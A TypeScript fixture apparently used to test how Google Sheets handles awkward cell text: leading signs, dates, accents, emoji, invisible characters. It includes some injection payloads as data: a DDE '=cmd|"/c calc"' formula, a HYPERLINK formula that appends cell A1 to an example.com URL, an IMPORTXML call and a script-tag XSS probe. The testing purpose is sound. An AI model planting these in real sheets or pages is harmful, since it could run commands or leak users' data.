// Texts that a spreadsheet would evaluate, convert or break if they were written carelessly. The simulated service has
// the same list; a test compares the two.

/**
 * Texts that Sheets would turn into something else, such as formulas or numbers. *Check this installation* writes
 * them and reads them back, to see whether they stay.
 */
export const AWKWARD_TEXTS: readonly string[] = [
  '=HYPERLINK("https://example.com/?q="&A1,"Clique aqui")',
  '=IMPORTXML("https://example.com";"//a")',
  '=1+1',
  '-5',
  '+5',
  '@SUM(1)',
  '@promocao de inverno',
  "'quoted",
  "'=1+1",
  '"aspas"; e ponto e vírgula',
  '00123',
  '007',
  '1/2',
  '3-4',
  '31/12/2025',
  '2025-12-31',
  '10:30',
  'TRUE',
  'FALSO',
  '1e5',
  '1.234,56',
  'R$ 10,00',
  '50%',
  '#N/A',
  'null',
  '0',
  ' espaços nas pontas ',
  'Vitrine quebrada 😱🔥 urgente 👩🏽‍🍳',
  'coluna\tcom\ttabulação',
  'linha 1\nlinha 2\r\nlinha 3',
  '\n começa com quebra',
  'acentuação: ação, pão, à, ü, ñ',
  'e\u0301 combinado e \u00a0espaço rígido',
  '<b>negrito</b> & <script>alert(1)</script>',
  '\u202Etexto da direita\u202C',
  '',
  '=cmd|"/c calc"!A1',
  '\u200Binvisível no começo',
];
